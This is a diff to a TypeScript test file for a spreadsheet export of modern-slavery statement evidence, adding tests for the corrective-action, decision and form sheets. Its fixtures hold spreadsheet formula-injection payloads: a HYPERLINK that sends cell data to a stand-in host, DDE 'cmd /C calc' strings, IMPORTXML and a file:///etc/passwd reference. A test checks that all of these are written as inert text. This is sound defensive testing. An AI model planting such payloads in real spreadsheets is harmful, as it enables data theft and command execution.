@@ -1,6 +1,7 @@
 import ExcelJS from 'exceljs';
-import { STATEMENT_LANGUAGES } from '@firebreak/statements/model';
+import { STATEMENT_LANGUAGES, type FormPart } from '@firebreak/statements/model';
 import { aRendering } from '../a-rendering.fixture';
+import { HOSTILE_STRINGS } from '../pdf/hostile-strings.fixture';
 import type { EvidenceRows } from './evidence-rows';
 import { renderStatementWorkbook } from './render-statement-workbook';
 
@@ -53,8 +54,91 @@ const someRows = (): EvidenceRows => ({
       actionOwner: '-Plant manager',
     },
   ],
+  actions: [
+    {
+      id: 'h',
+      owner: '=1+1',
+      dueOn: '2026-01-09',
+      description: '+Passports handed back',
+      state: 'claimed',
+      finding: { code: 'DOC-01', title: '@Identity documents kept', severity: 'critical' },
+      supplierName: '-Tirupur Knits',
+      siteName: null,
+    },
+  ],
+  decisions: [
+    aDecision({ subject: 'criterion/x-6' }),
+    aDecision({ subject: 'criterion/x-1', evidence: 'A sentence that is gone.', reason: 'outdated' }),
+    aDecision({ subject: 'metric/qm-plain', evidence: '', reason: '=SUM(A1)' }),
+    aDecision({ subject: 'warning/late//', verdict: 'kept', evidence: '', reason: '@late' }),
+  ],
+  metrics: [
+    {
+      id: 'qm-plain',
+      category: 'text_quality',
+      question: 'Is it readable and accessible?',
+      evidenceSatisfied: '',
+      evidenceUnsatisfied: '',
+      source: '',
+      tier: 'core',
+    },
+  ],
+  forms: [
+    {
+      law: 'uk-statement-registry',
+      name: 'Registry',
+      jurisdiction: 'GB',
+      fields: [
+        {
+          criterion: 'uk-reg-training',
+          ref: 'Registry form',
+          title: 'Training audiences',
+          requirement: '',
+          mandatory: false,
+          source: 'https://www.gov.uk/form',
+          wording: 'official',
+          parts: [
+            aPart({ id: 'audiences', kind: 'many', typed: { text: '=also', chosen: ['hr', 'procurement'] } }),
+            aPart({
+              id: 'name',
+              fromData: { text: '-Harbour', chosen: [], kept: 'whole', records: [], figures: [] },
+            }),
+            aPart({ id: 'parent', maxLength: 200 }),
+          ],
+        },
+      ],
+    },
+  ],
+  lawNames: { 'uk-msa-s54': 'Modern Slavery Act' },
   editions: [],
 });
+
+function aDecision(changes: Partial<EvidenceRows['decisions'][number]>): EvidenceRows['decisions'][number] {
+  return {
+    subject: '',
+    verdict: 'met',
+    reason: 'Two courses were held.',
+    evidence: 'We have not yet recorded any training on slavery and human trafficking for this year.',
+    decidedBy: 'Ada Lovelace',
+    decidedAt: '2026-05-04T10:00:00.000Z',
+    ...changes,
+  };
+}
+
+function aPart(changes: Partial<FormPart>): FormPart {
+  return { id: '', kind: 'text', options: [], maxLength: null, fromData: null, typed: null, ...changes };
+}
+
+/** What a spreadsheet would run, behind what makes it a formula. */
+const FORMULAS = ['=', '+', '-', '@', '\t=', '\r\n='].flatMap((start) =>
+  [
+    'HYPERLINK("http://x.example/?"&A1,"x")',
+    "cmd|' /C calc'!A0",
+    'DDE("cmd";"/C calc";"x")',
+    'IMPORTXML("http://x.example","//a")',
+    "'file:///etc/passwd'#$Sheet1.A1",
+  ].map((formula) => start + formula),
+);
 
 async function workbookOf(...input: Parameters<typeof renderStatementWorkbook>): Promise<Buffer> {
   const chunks: Buffer[] = [];
@@ -72,24 +156,30 @@ const rowsOf = (workbook: ExcelJS.Workbook, sheet: string) =>
   (workbook.getWorksheet(sheet)?.getSheetValues() ?? []).slice(1).map((row) => (row as unknown[]).slice(1));
 
 describe('renderStatementWorkbook', () => {
-  it('has the five sheets, in the language of the statement', async () => {
+  it('has the eight sheets, in the language of the statement', async () => {
     const names = async (language: 'en' | 'es' | 'ar') =>
       (await read(await workbookOf(aRendering(language), someRows()))).worksheets.map(({ name }) => name);
     expect(await names('en')).toEqual([
       'Criteria',
       'Figures',
       'Suppliers',
-      'Findings and actions',
+      'Findings',
+      'Corrective actions',
+      'Decisions',
+      'Forms',
       'Sources',
     ]);
     expect(await names('es')).toEqual([
       'Criterios',
       'Cifras',
       'Proveedores',
-      'Hallazgos y medidas',
+      'Hallazgos',
+      'Medidas correctivas',
+      'Decisiones',
+      'Formularios',
       'Fuentes',
     ]);
-    expect(await names('ar')).toHaveLength(5);
+    expect(await names('ar')).toHaveLength(8);
   });
 
   it('shows for each criterion its status, evidence and what to add', async () => {
@@ -105,6 +195,62 @@ describe('renderStatementWorkbook', () => {
     ]);
   });
 
+  it('shows beside a criterion what a person decided about the sentence that stands', async () => {
+    const rows = rowsOf(await read(await workbookOf(aRendering(), someRows())), 'Criteria');
+    const row = (reference: string) => rows.find(([each]) => each === reference);
+    expect(row('s.54(6)')?.slice(-5)).toEqual([
+      'Modern Slavery Act',
+      'Say something about training.',
+      'Met',
+      'Two courses were held.',
+      '4 May 2026',
+    ]);
+    // Its sentence is another one by now.
+    expect(rows.flat()).not.toContain('outdated');
+  });
+
+  it('lists every decision with what it is about, and not who made it', async () => {
+    const rows = rowsOf(await read(await workbookOf(aRendering(), someRows())), 'Decisions');
+    expect(rows.map((row) => [row[0], row[1], row[2]]).slice(1)).toEqual([
+      ['s.54(6): About training', 'Met', 'Two courses were held.'],
+      [expect.stringContaining('About structure'), 'Met', 'outdated'],
+      ['Is it readable and accessible?', 'Met', '=SUM(A1)'],
+      [expect.stringContaining('six months'), 'Kept as it is', '@late'],
+    ]);
+    expect(JSON.stringify(rows)).not.toContain('Lovelace');
+  });
+
+  it('lists corrective actions with owner, day and state', async () => {
+    const rows = rowsOf(await read(await workbookOf(aRendering(), someRows())), 'Corrective actions');
+    expect(rows[1]).toEqual([
+      '-Tirupur Knits',
+      '@Identity documents kept',
+      'DOC-01',
+      'Critical',
+      '+Passports handed back',
+      '=1+1',
+      '9 January 2026',
+      'Said to be done',
+    ]);
+  });
+
+  it('gives forms part by part, with choices in English too and what is left', async () => {
+    const rows = rowsOf(await read(await workbookOf(aRendering('es'), someRows())), 'Formularios');
+    const parts = rows.slice(1).map((row) => row.slice(2, 7));
+    expect(parts).toEqual([
+      [
+        'A quién se formó',
+        'Recursos humanos\nCompras\n=also',
+        'Human resources\nProcurement',
+        'De una persona',
+        undefined,
+      ],
+      ['Denominación legal', '-Harbour', undefined, 'De los registros', undefined],
+      ['Nombre de la matriz', undefined, undefined, 'Queda por completar', 200],
+    ]);
+    expect(rows[1]?.[1]).toBe('Destinatarios de la formación');
+  });
+
   it('gives figures as numbers, with source, date and where they are quoted', async () => {
     const rows = rowsOf(await read(await workbookOf(aRendering(), someRows())), 'Figures');
     expect(rows).toContainEqual([
@@ -115,6 +261,7 @@ describe('renderStatementWorkbook', () => {
       '31 March 2026',
       'Steps taken in the year, Our organisation and supply chains, Effectiveness and indicators',
       'supply-chain.suppliers',
+      'SupplyChainFigures: supply-chain.suppliers, edition 1, period 2025-04-01 to 2026-03-31, records of 2026-03-31',
     ]);
     expect(rows).toContainEqual(expect.arrayContaining(['Suppliers by country: Bangladesh', 300]));
   });
@@ -147,10 +294,60 @@ describe('renderStatementWorkbook', () => {
     }
     expect(texts.sort()).toEqual([
       '+Identity documents kept',
+      '+Passports handed back',
+      '-Harbour',
       '-Plant manager',
+      '-Tirupur Knits',
+      '=1+1',
       '=HYPERLINK("http://x")',
+      '=SUM(A1)',
+      '@Identity documents kept',
       '@SUM(A1)',
+      '@late',
     ]);
+  });
+
+  it('holds 230 hostile strings as texts in every sheet, and links to nothing outside', async () => {
+    const hostile = [...HOSTILE_STRINGS, ...FORMULAS];
+    const { actions, decisions, forms } = someRows();
+    const field = forms[0]!.fields[0]!;
+    const rows: EvidenceRows = {
+      ...someRows(),
+      suppliers: hostile.map((name, index) => aSupplier({ id: String(index), name })),
+      actions: hostile.map((description) => ({ ...actions[0]!, description, owner: description })),
+      decisions: hostile.map((reason) => ({ ...decisions[0]!, subject: reason, reason, evidence: reason })),
+      forms: [
+        {
+          ...forms[0]!,
+          fields: hostile.map((text) => ({
+            ...field,
+            title: text,
+            parts: [aPart({ id: text, typed: { text, chosen: [text] } })],
+          })),
+        },
+      ],
+      lawNames: Object.fromEntries([['uk-msa-s54', hostile[0]!]]),
+    };
+    const bytes = await workbookOf(aRendering(), rows);
+    const workbook = await read(bytes);
+    const formulas = workbook.worksheets.flatMap((sheet) =>
+      (sheet.getSheetValues() as unknown[][])
+        .flat()
+        .filter((value) => typeof value === 'object' && value !== null),
+    );
+    expect(formulas).toEqual([]);
+    expect(workbook.getWorksheet('Forms')?.rowCount).toBe(hostile.length + 1);
+    expect(workbook.getWorksheet('Decisions')?.rowCount).toBe(hostile.length + 1);
+    expect(bytes.includes('TargetMode="External"')).toBe(false);
+  });
+
+  it('makes a row as high as its longest text needs, and no higher than Excel can', async () => {
+    const [action] = someRows().actions;
+    const long = (description: string) => ({ ...action!, description });
+    const rows = { ...someRows(), actions: [long('x'.repeat(150)), long('a\nb'), long('x'.repeat(9000))] };
+    const sheet = (await read(await workbookOf(aRendering(), rows))).getWorksheet('Corrective actions')!;
+    // 60 characters wide: 57 a line.
+    expect([1, 2, 3, 4].map((row) => sheet.getRow(row).height)).toEqual([15, 45, 30, 409]);
   });
 
   it('keeps signs that mean something in XML, and drops those that it forbids', async () => {
